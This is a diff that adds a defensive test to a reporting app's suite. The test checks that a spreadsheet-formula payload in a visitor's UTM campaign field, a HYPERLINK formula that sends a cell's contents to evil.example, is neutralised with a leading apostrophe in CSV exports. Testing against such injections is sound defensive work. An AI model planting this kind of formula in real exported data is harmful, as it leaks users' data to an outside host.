@@ -454,3 +454,20 @@ def test_the_charts_render_in_a_browser(airflow_web, browser_page, months_of_lea
     with page.expect_download() as download:
         page.get_by_role("link", name="Рекламные кампании (UTM) за всё время").click()
     assert download.value.suggested_filename.startswith("report_campaigns_")
+
+
+def test_text_from_visitors_urls_cannot_become_an_excel_formula(airflow_web, reports_db):
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    lead = Lead("uis", at(this_monday() - timedelta(weeks=1), 5, 10), "+79160000077",
+                ("google", "cpc", hostile))  # fmt: skip
+    insert_leads(reports_db, [lead], "hostile-")
+    try:
+        build(reports_db)
+        rows = _rows(_get_csv(airflow_web.cookie_session("admin"), airflow_web, "campaigns"))
+        campaigns = [row["utm_campaign"] for row in rows]
+        assert "'" + hostile in campaigns
+        assert hostile not in campaigns
+    finally:
+        reports_db.execute("delete from integration.leads where external_id like 'hostile-%'")
+        reports_db.commit()
+        build(reports_db)
